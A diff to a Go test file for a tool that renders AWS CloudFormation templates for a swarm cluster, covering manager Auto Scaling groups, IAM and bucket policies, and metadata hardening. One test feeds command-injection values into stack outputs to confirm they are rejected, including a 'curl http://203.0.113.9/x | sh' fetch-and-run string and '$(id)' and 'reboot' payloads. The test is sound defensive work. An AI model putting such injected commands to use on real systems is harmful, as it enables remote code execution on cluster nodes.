@@ -10,6 +10,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -22,12 +23,12 @@ var update = flag.Bool("update", false, "rewrite the golden files in testdata")
 var testJoin = Join{
 	ClusterName:            "prod",
 	BucketName:             "prod-bucket-1a2b3c4d5e6f",
-	ControlPrivateIp:       "10.0.1.10",
 	ControlSecurityGroupId: "sg-0c0c0c0c0c0c0c0c0",
 	AgentSecurityGroupId:   "sg-0a0a0a0a0a0a0a0a0",
 	AgentInstanceProfile:   "arn:aws:iam::123456789012:instance-profile/prod-AgentInstanceProfile-ABCDEF",
 	VpcId:                  "vpc-0123456789abcdef0",
 	SubnetIds:              []string{"subnet-0000000000000000a", "subnet-0000000000000000b"},
+	ManagersKey:            names.ManagersKey,
 	ContractVersion:        ContractVersion,
 }
 
@@ -59,11 +60,11 @@ func variants() []variant {
 		}},
 		{name: "core-ssh-key-ami", cluster: "prod", core: &spec.Core{
 			InstanceType: "m5.large", ImageID: "ami-0abcdef1234567890", KeyName: "ops", SSHCIDR: "203.0.113.0/24",
-			VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds, VolumeSize: intp(50),
+			VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds, VolumeSize: intp(50), Managers: intp(3),
 		}},
 		{name: "core-ssm-graviton", cluster: "arm", core: &spec.Core{
 			InstanceType: "c7gn.large", ImageID: "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-6.1-arm64",
-			VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds,
+			VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds, Managers: intp(5),
 		}},
 		{name: "group-default", cluster: "prod", join: testJoin, group: &spec.Group{
 			Name: "c5-agents", InstanceType: spec.InstanceTypes{"c5.xlarge"}, Count: intp(2), Min: intp(2), Max: intp(4), VolumeSize: intp(30),
@@ -125,6 +126,10 @@ func TestGolden(t *testing.T) {
 			golden(t, v.name+".stack.golden.json", append(meta, '\n'))
 			if len(r.Artifacts) > 0 {
 				golden(t, v.name+".node.golden.sh", r.Artifacts[0].Body)
+			}
+			if v.core != nil {
+				// The control node program, as the node receives it.
+				golden(t, v.name+".control.golden.sh", []byte(embeddedProgram(t, resolvedUserData(t, r, "ControlLaunchTemplate"))))
 			}
 		})
 	}
@@ -254,6 +259,19 @@ func TestJoinFromOutputs(t *testing.T) {
 		})
 	}
 
+	// A core of contract 1 (its control node pinned, no ManagersKey) is
+	// told apart from a broken one: it can be upgraded.
+	v1 := testJoin.Outputs()
+	delete(v1, names.OutputManagersKey)
+	v1[names.OutputContractVersion], v1[names.OutputControlPrivateIP] = "1", "10.0.1.10"
+	var ce *ContractError
+	if _, err := JoinFromOutputs(v1); !errors.As(err, &ce) || ce.Core != "1" || ce.Want != ContractVersion || !ce.Older() {
+		t.Errorf("contract 1 core: %v", err)
+	}
+	if ContractOlder("3", ContractVersion) || ContractOlder("x", "2") || !ContractOlder("1", "2") {
+		t.Error("ContractOlder")
+	}
+
 	j, err = JoinFromOutputs(mergeMap(testJoin.Outputs(), map[string]string{"SubnetIds": "subnet-0aaa1111, subnet-0bbb2222,"}))
 	if err != nil || !slices.Equal(j.SubnetIds, []string{"subnet-0aaa1111", "subnet-0bbb2222"}) {
 		t.Errorf("SubnetIds with spaces: %q, %v", j.SubnetIds, err)
@@ -267,15 +285,14 @@ func TestJoinFromOutputsRefusesTamperedValues(t *testing.T) {
 		{"ClusterName", "prod; reboot"},
 		{"BucketName", "Prod_Bucket"},
 		{"BucketName", "b$(id)"},
-		{"ControlPrivateIp", "10.0.0.9'; curl http://203.0.113.9/x | sh; : '"},
-		{"ControlPrivateIp", "2001:db8::1"},
+		{"ManagersKey", "join/swarm/managers'; curl http://203.0.113.9/x | sh; : '"},
+		{"ManagersKey", "join/swarm/$(id)"},
 		{"ControlSecurityGroupId", "sg-0c0c0c0c `id`"},
 		{"AgentSecurityGroupId", "sg-xyz"},
 		{"AgentInstanceProfile", "arn:aws:iam::123456789012:instance-profile/x'$(id)"},
 		{"AgentInstanceProfile", "prod-agents"},
 		{"VpcId", "vpc-0123\n"},
 		{"SubnetIds", "subnet-0aaa1111,subnet-0bbb2222 && reboot"},
-		{"ContractVersion", "1;id"},
 	} {
 		outs := mergeMap(testJoin.Outputs(), map[string]string{tc.output: tc.value})
 		_, err := JoinFromOutputs(outs)
@@ -383,20 +400,30 @@ func TestCoreContent(t *testing.T) {
 			if !tlsOnly {
 				t.Error("no bucket policy statement denying non-TLS access to bucket and objects")
 			}
+			checkJoinMaterialPolicy(t, res)
 
-			// Agents may only read the join material, and tag the
-			// cluster's instances with what they are.
+			// Both roles are managed by Systems Manager (Session Manager
+			// instead of SSH).
+			for _, role := range []string{"ControlRole", "AgentRole"} {
+				arns := list(dig(res, role, "Properties", "ManagedPolicyArns"))
+				if len(arns) != 1 || dig(arns[0], "Fn::Sub") != "arn:${AWS::Partition}:iam::aws:policy/AmazonSSMManagedInstanceCore" {
+					t.Errorf("%s managed policies %v, want AmazonSSMManagedInstanceCore", role, arns)
+				}
+			}
+
+			// Agents may only read the join material and the swarm's
+			// status, and tag the cluster's instances with what they are.
 			tags := 0
 			for _, s := range list(dig(res, "AgentRole", "Properties", "Policies")) {
 				for _, st := range list(dig(s, "PolicyDocument", "Statement")) {
 					st := obj(st)
 					switch act := st["Action"]; act {
 					case "s3:GetObject":
-						if dig(st, "Resource", "Fn::Sub") != "${Bucket.Arn}/join/*" {
+						if r := dig(st, "Resource", "Fn::Sub"); r != "${Bucket.Arn}/join/*" && r != "${Bucket.Arn}/status/swarm.json" {
 							t.Errorf("agents read %v", st["Resource"])
 						}
 					case "s3:ListBucket":
-						if !jsonEqual(dig(st, "Condition", "StringLike", "s3:prefix"), []any{"join/*"}) {
+						if !jsonEqual(dig(st, "Condition", "StringLike", "s3:prefix"), []any{"join/*", "status/swarm.json"}) {
 							t.Errorf("agents list beyond join/: %v", st["Condition"])
 						}
 					case "ec2:CreateTags":
@@ -416,20 +443,23 @@ func TestCoreContent(t *testing.T) {
 				t.Errorf("%d statements let agents tag their instances, want 1", tags)
 			}
 
-			inst := obj(res["ControlInstance"])
-			if dig(inst, "CreationPolicy", "ResourceSignal", "Timeout") != "PT10M" {
-				t.Error("control instance without a 10 minute creation signal")
+			if _, ok := res[names.ResourceControlInstance]; ok {
+				t.Error("a bare control instance: the managers are an Auto Scaling group")
 			}
-			if got := dig(inst, "Properties", "LaunchTemplate", "Version", "Fn::GetAtt"); !jsonEqual(got, []any{"ControlLaunchTemplate", "LatestVersionNumber"}) {
-				t.Errorf("control instance launch template version = %v", got)
+			checkManagerGroup(t, doc, v.cluster)
+			ud := userDataOf(t, res, names.ResourceControlLaunchTemplate)
+			if !strings.Contains(ud, "--resource ManagerGroup ") {
+				t.Error("control user data does not signal ManagerGroup")
 			}
-			wantTags(t, list(dig(inst, "Properties", "Tags")), map[string]string{
-				"Name": v.cluster + "-control", names.TagCluster: v.cluster, names.TagRole: names.RoleCore,
-				names.TagGroup: names.GroupControl, names.TagVersion: testVersion,
-			})
-			ud := userDataOf(t, res, "ControlLaunchTemplate")
-			if !strings.Contains(ud, "--resource ControlInstance ") {
-				t.Error("control user data does not signal ControlInstance")
+			// No output pins a manager: nothing an agent group receives
+			// changes when a manager is replaced.
+			for name, o := range outs {
+				if b := string(mustJSON(t, o)); strings.Contains(b, "PrivateIp") || strings.Contains(b, "AWS::EC2::Instance") {
+					t.Errorf("output %s names an instance: %s", name, b)
+				}
+			}
+			if got := dig(outs, names.OutputManagersKey, "Value"); got != names.ManagersKey {
+				t.Errorf("ManagersKey output = %v", got)
 			}
 
 			checkNodeSecurity(t, res)
@@ -642,6 +672,76 @@ func checkPurchase(t *testing.T, doc map[string]any, r *Rendered, g *spec.Group)
 // checkNodeSecurity asserts what holds for every node of every template:
 // IMDSv2, encrypted volumes, no ingress from anywhere, SSH only from the
 // SshCidr parameter and only under its condition.
+// checkManagerGroup checks the managers' Auto Scaling group: as many as
+// the Managers parameter says, one more at most while a rolling update
+// replaces them one at a time, each waited for (it signals once it is a
+// Reachable manager), none terminated before the lifecycle hook let the
+// swarm demote and remove it.
+func checkManagerGroup(t *testing.T, doc map[string]any, cluster string) {
+	t.Helper()
+	res := obj(doc["Resources"])
+	asgs := resourcesOfType(res, "AWS::AutoScaling::AutoScalingGroup")
+	if len(asgs) != 1 {
+		t.Fatalf("%d Auto Scaling groups", len(asgs))
+	}
+	g := obj(res[names.ResourceManagerGroup])
+	managers := map[string]any{"Ref": names.ParamManagers}
+	for _, want := range []struct {
+		path []string
+		want any
+	}{
+		{[]string{"CreationPolicy", "ResourceSignal", "Count"}, managers},
+		{[]string{"CreationPolicy", "ResourceSignal", "Timeout"}, "PT10M"},
+		{[]string{"UpdatePolicy", "AutoScalingRollingUpdate", "MaxBatchSize"}, 1.0},
+		{[]string{"UpdatePolicy", "AutoScalingRollingUpdate", "MinInstancesInService"}, managers},
+		{[]string{"UpdatePolicy", "AutoScalingRollingUpdate", "WaitOnResourceSignals"}, true},
+		{[]string{"Properties", "MinSize"}, managers},
+		{[]string{"Properties", "DesiredCapacity"}, managers},
+		{[]string{"Properties", "MaxSize"}, map[string]any{"Fn::FindInMap": []any{"ManagerGroupSize", managers, "Max"}}},
+		{[]string{"Properties", "VPCZoneIdentifier"}, map[string]any{"Ref": names.ParamSubnetIDs}},
+		{[]string{"Properties", "LaunchTemplate", "Version", "Fn::GetAtt"}, []any{names.ResourceControlLaunchTemplate, "LatestVersionNumber"}},
+	} {
+		if got := dig(g, want.path...); !jsonEqual(got, want.want) {
+			t.Errorf("ManagerGroup %s = %v, want %v", strings.Join(want.path, "."), got, want.want)
+		}
+	}
+	// MinInstancesInService must stay below MaxSize, or CloudFormation
+	// cannot replace a manager while keeping the others.
+	allowed := list(dig(doc, "Parameters", names.ParamManagers, "AllowedValues"))
+	if !jsonEqual(allowed, []any{"1", "3", "5"}) {
+		t.Errorf("Managers allows %v", allowed)
+	}
+	for _, n := range allowed {
+		if max := dig(doc, "Mappings", "ManagerGroupSize", n.(string), "Max"); max != mustAtof(t, n.(string))+1 {
+			t.Errorf("%s managers: max size %v, want one more", n, max)
+		}
+	}
+	hooks := list(dig(g, "Properties", "LifecycleHookSpecificationList"))
+	if len(hooks) != 1 || dig(hooks[0], "LifecycleTransition") != "autoscaling:EC2_INSTANCE_TERMINATING" ||
+		dig(hooks[0], "LifecycleHookName") != names.LifecycleHook(cluster) || dig(hooks[0], "DefaultResult") != "CONTINUE" {
+		t.Errorf("managers' termination hook %v", hooks)
+	}
+	tags := list(dig(g, "Properties", "Tags"))
+	wantTags(t, tags, map[string]string{
+		"Name": cluster + "-control", names.TagCluster: cluster, names.TagRole: names.RoleCore,
+		names.TagGroup: names.GroupControl, names.TagVersion: testVersion,
+	})
+	for _, tag := range tags {
+		if dig(tag, "PropagateAtLaunch") != true {
+			t.Errorf("tag %v not on the managers", tag)
+		}
+	}
+}
+
+func mustAtof(t *testing.T, s string) float64 {
+	t.Helper()
+	f, err := strconv.ParseFloat(s, 64)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return f
+}
+
 func checkNodeSecurity(t *testing.T, res map[string]any) {
 	t.Helper()
 	lts := resourcesOfType(res, "AWS::EC2::LaunchTemplate")
@@ -651,6 +751,11 @@ func checkNodeSecurity(t *testing.T, res map[string]any) {
 	data := obj(dig(lts[0], "Properties", "LaunchTemplateData"))
 	if dig(data, "MetadataOptions", "HttpTokens") != "required" {
 		t.Error("IMDSv2 not required")
+	}
+	// One hop: a container on the node cannot reach the metadata service,
+	// so it cannot take the node's role.
+	if hop := dig(data, "MetadataOptions", "HttpPutResponseHopLimit"); hop != 1.0 {
+		t.Errorf("IMDS hop limit %v, want 1", hop)
 	}
 	bdms := list(data["BlockDeviceMappings"])
 	if len(bdms) == 0 {
@@ -697,6 +802,36 @@ func checkNodeSecurity(t *testing.T, res map[string]any) {
 	}
 }
 
+// checkJoinMaterialPolicy asserts that the bucket policy denies reading
+// the swarm's join material to every principal but the cluster's two
+// roles: an explicit deny in the bucket policy overrides whatever broad
+// read access (ReadOnlyAccess) an identity policy grants.
+func checkJoinMaterialPolicy(t *testing.T, res map[string]any) {
+	t.Helper()
+	var found []map[string]any
+	for _, p := range resourcesOfType(res, "AWS::S3::BucketPolicy") {
+		for _, s := range list(dig(p, "Properties", "PolicyDocument", "Statement")) {
+			if st := obj(s); dig(st, "Resource", "Fn::Sub") == "${Bucket.Arn}/"+names.SwarmPrefix+"/*" {
+				found = append(found, st)
+			}
+		}
+	}
+	if len(found) != 1 {
+		t.Fatalf("%d bucket policy statements on the join material, want 1", len(found))
+	}
+	st := found[0]
+	if st["Effect"] != "Deny" || st["Principal"] != "*" || !jsonEqual(st["Action"], []any{"s3:GetObject", "s3:GetObjectVersion"}) {
+		t.Errorf("join material statement %v: want a deny of reading to every principal", st)
+	}
+	except := dig(st, "Condition", "ArnNotEquals", "aws:PrincipalArn")
+	if !jsonEqual(except, []any{
+		map[string]any{"Fn::GetAtt": []any{"ControlRole", "Arn"}},
+		map[string]any{"Fn::GetAtt": []any{"AgentRole", "Arn"}},
+	}) || len(obj(st["Condition"])) != 1 {
+		t.Errorf("join material readable by %v, want the control and agent roles only", st["Condition"])
+	}
+}
+
 func userDataOf(t *testing.T, res map[string]any, lt string) string {
 	t.Helper()
 	s, ok := dig(res, lt, "Properties", "LaunchTemplateData", "UserData", "Fn::Base64", "Fn::Sub").(string)
@@ -716,7 +851,7 @@ func TestErrors(t *testing.T) {
 	group := variants()[3]
 	otherCluster, newerContract := group, group
 	otherCluster.join.ClusterName = "other"
-	newerContract.join.ContractVersion = "2"
+	newerContract.join.ContractVersion = "3"
 	for _, tc := range []struct {
 		name string
 		run  func() error
@@ -725,7 +860,7 @@ func TestErrors(t *testing.T) {
 		{"core empty version", func() error { _, err := Core(core.cluster, *core.core, ""); return err }, "rendering core template: clusterctl version is empty"},
 		{"group empty version", func() error { _, err := Group(group.cluster, *group.group, group.join, ""); return err }, "rendering group template: clusterctl version is empty"},
 		{"group other cluster", func() error { _, err := otherCluster.render(); return err }, `belong to cluster "other"`},
-		{"group newer contract", func() error { _, err := newerContract.render(); return err }, "join contract version 2"},
+		{"group newer contract", func() error { _, err := newerContract.render(); return err }, "join contract version 3"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			err := tc.run()
